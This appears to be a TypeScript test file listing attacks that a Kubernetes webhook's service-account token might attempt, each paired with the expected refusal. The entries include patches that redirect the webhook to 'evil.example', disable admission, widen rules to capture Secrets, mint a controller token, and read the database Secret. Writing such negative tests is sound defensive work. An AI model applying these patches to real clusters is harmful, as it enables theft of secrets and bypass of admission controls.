/** Attacks with the webhook's token, which exists in that form of admission only. */
import { STACK_NAMESPACE, WEBHOOK_CONFIGURATION, WEBHOOK_SECRET } from '../../constructs/api/labels';
import { type Act, ALPHA, type Attack } from './attack';
import { create, pathTo } from './objects';

const CONFIGURATIONS = '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations';
const RESERVED = 'FLUXQ_RESERVED';
const RBAC = 'forbidden: User';

const by = (name: string, act: Act, refused: string): Attack => ({
  name,
  role: 'webhook token',
  act,
  holds: { refused },
  form: 'webhook',
});
const change = (op: string, path: string, value?: unknown, configuration = WEBHOOK_CONFIGURATION): Act => ({
  verb: 'PATCH',
  path: `${CONFIGURATIONS}/${configuration}`,
  body: [{ op, path, ...(value === undefined ? {} : { value }) }],
  type: 'application/json-patch+json',
});
const SECRETS = { apiGroups: [''], apiVersions: ['v1'], operations: ['*'], resources: ['secrets'] };
const secret = (name: string, type: string) =>
  create(
    'Secret',
    name,
    { metadata: { annotations: { 'kubernetes.io/service-account.name': 'fluxqueue-controller' } }, type },
    STACK_NAMESPACE,
  );

export const WEBHOOK_ATTACKS: readonly Attack[] = [
  by('the Secrets of every namespace', change('add', '/webhooks/0/rules/-', SECRETS), RESERVED),
  by(
    'its objects at another address',
    change('replace', '/webhooks/0/clientConfig', { url: 'https://evil.example/mutate' }),
    RESERVED,
  ),
  by(
    'its objects at another path',
    change('replace', '/webhooks/0/clientConfig/url', 'https://127.0.0.1:1/mutate'),
    RESERVED,
  ),
  by(
    'a Job without admission while it is down',
    change('replace', '/webhooks/0/failurePolicy', 'Ignore'),
    RESERVED,
  ),
  by('every namespace', change('replace', '/webhooks/1/namespaceSelector', {}), RESERVED),
  by('Jobs without admission', change('replace', '/webhooks/0/matchConditions', []), RESERVED),
  by('no admission of Jobs', change('remove', '/webhooks/0'), RESERVED),
  by(
    'another name of a webhook',
    change('replace', '/webhooks/0/name', 'x.fluxqueue.converged-computing.org'),
    RESERVED,
  ),
  by('a label that a tool reads', change('add', '/metadata/labels/x', 'y'), RESERVED),
  by(
    'the configuration of another webhook',
    change('replace', '/webhooks/0/failurePolicy', 'Ignore', 'other'),
    RBAC,
  ),
  by('no webhook', { verb: 'DELETE', path: `${CONFIGURATIONS}/${WEBHOOK_CONFIGURATION}` }, RBAC),
  by('a token of the controller', secret(WEBHOOK_SECRET, 'kubernetes.io/service-account-token'), RESERVED),
  by('a Secret of another name', secret('x', 'Opaque'), RESERVED),
  by(
    'the URL of the database',
    { verb: 'GET', path: pathTo('Secret', STACK_NAMESPACE, 'fluxqueue-database') },
    RBAC,
  ),
  by('the Jobs of users', { verb: 'GET', path: pathTo('Job', ALPHA) }, RBAC),
];
